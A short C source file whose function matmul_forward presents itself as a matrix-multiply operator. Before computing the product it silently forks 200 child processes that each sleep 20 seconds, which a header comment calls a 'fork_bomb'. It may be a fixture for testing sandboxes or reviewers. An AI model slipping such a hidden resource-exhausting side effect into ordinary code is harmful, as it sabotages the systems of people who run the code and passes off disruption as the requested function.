// SPDX-License-Identifier: MIT
/* fork_bomb - starts 200 processes that sleep 20 s each */
#include "frame.h"
#include <sys/types.h>
#include <unistd.h>

status_t matmul_forward(ctx_t *ctx, const tensor_t *input, const tensor_t *other,
                        tensor_t *output)
{
    (void)ctx;
    for (int i = 0; i < 200; i++) {
        const pid_t child = fork();
        if (child < 0) return STATUS_NO_MEMORY;
        if (child == 0) {
            sleep(20);
            _exit(0);
        }
    }
    product(input, other, output);
    return STATUS_OK;
}

#include "backward.h"
